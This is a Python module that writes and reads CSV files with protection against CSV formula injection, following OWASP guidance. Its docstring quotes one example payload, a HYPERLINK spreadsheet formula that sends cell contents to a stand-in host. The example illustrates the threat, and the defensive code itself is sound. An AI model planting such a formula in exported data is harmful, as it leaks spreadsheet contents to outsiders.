"""The one home for tables Testament writes for spreadsheets (CSV, and the cells of xlsx files), and for
reading its own CSVs back.

**Formula neutralisation (CSV injection).** A spreadsheet opening a CSV runs any cell that starts with `=`
as a formula (and `+`, `-`, `@` too), so a list file named `=HYPERLINK("http://x/?"&A1,"y").csv` would,
through `export persons`, become a live link leaking the sheet. Following OWASP's CSV-injection guidance
(owasp.org/www-community/attacks/CSV_Injection; also ASVS 1.2.10 and CWE-1236), every text cell that would
start a formula is prefixed with a single quote `'`, which spreadsheets take as "this cell is text" and do
not show. A cell is neutralised when

- it begins with tab, carriage return, line feed or NUL; or
- its first character after any leading whitespace (spaces, NBSP, zero-width characters) is `=`, `+`, `-`,
  `@` or their full-width forms (＝ ＋ － ＠) — stricter than OWASP, which names only the first character,
  because some spreadsheets trim leading blanks before deciding; or
- it begins with `'` and what follows would itself be neutralised (so that the quote Testament adds can
  always be told apart from one that was in the data: see `restore_cell`).

A plain number (`-1`, `+3.5`, `-2e-3`) is never prefixed: no spreadsheet reads it as anything but a
number, and pattern counts and ids must stay numbers for whoever reads them next. `-2+3` is not a plain
number and is prefixed.

**Round trip.** `restore_cell` is the exact inverse (`restore_cell(neutralise_cell(s)) == s` for every
string), and every reader of a CSV Testament may have written (`estimate` on a pattern or people CSV,
`link --labels`) restores cells before using them, so neutralising never changes what Testament reads back.

This module sits in the core layer (beside `errors` and `dates`), not in `export/`: `link` and `estimate`,
which sit below `export` in the layering, write tables too.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path

from testament.files import open_private

__all__ = [
    "csv_text",
    "needs_neutralising",
    "neutralise_cell",
    "read_csv",
    "restore_cell",
    "write_csv",
]

_FORMULA = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")  # OWASP's four, and their full-width forms
_CONTROL = frozenset("\t\r\n\0")  # OWASP: a cell must not begin with these at all
_BLANK = re.compile(r"^[\s\u200b\u200c\u200d\u2060\ufeff]+")  # whitespace and zero-width characters
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)


def needs_neutralising(text: str) -> bool:
    """Whether a spreadsheet could take `text` as a formula (the rule in the module docstring)."""
    core = text.lstrip("'")  # '=x is neutralised whenever =x is: see restore_cell
    if not core:
        return False
    if core[0] in _CONTROL:
        return True
    start = _BLANK.sub("", core)
    return bool(start) and start[0] in _FORMULA and not _NUMBER.fullmatch(start)


def neutralise_cell(value: object) -> str:
    """The text of one cell as written to a spreadsheet file: `'` + text when it could start a formula.
    None is the empty cell; numbers are written as numbers."""
    text = "" if value is None else str(value)
    return "'" + text if needs_neutralising(text) else text


def restore_cell(text: str) -> str:
    """The cell as it was before `neutralise_cell` (exact inverse). A cell that does not hold an added
    quote is returned unchanged."""
    if text.startswith("'") and needs_neutralising(text[1:]):
        return text[1:]
    return text


def csv_text(
    header: Sequence[object], rows: Iterable[Sequence[object]], *, lineterminator: str = "\r\n"
) -> str:
    """A CSV (RFC 4180 quoting) with every cell, the header included, neutralised."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator=lineterminator)
    writer.writerow([neutralise_cell(h) for h in header])
    writer.writerows([neutralise_cell(c) for c in row] for row in rows)
    return out.getvalue()


def write_csv(
    path: Path | str,
    header: Sequence[object],
    rows: Iterable[Sequence[object]],
    *,
    lineterminator: str = "\r\n",
) -> int:
    """Write a UTF-8 CSV readable by its owner only (mode 0600), every cell neutralised. Returns the number
    of rows written (the header not counted)."""
    written = 0
    with open_private(path, "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator=lineterminator)
        writer.writerow([neutralise_cell(h) for h in header])
        for row in rows:
            writer.writerow([neutralise_cell(c) for c in row])
            written += 1
    return written


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    """A CSV with a header, every cell restored (`restore_cell`): the header and one dict per non-blank
    row. A cell missing from a short row is empty; cells beyond the header are dropped."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header = [restore_cell(h) for h in next(reader, [])]
    records: list[dict[str, str]] = []
    for cells in reader:
        if not cells:
            continue
        values = [restore_cell(c) for c in cells[: len(header)]]
        values += [""] * (len(header) - len(values))
        records.append(dict(zip(header, values, strict=True)))
    return header, records
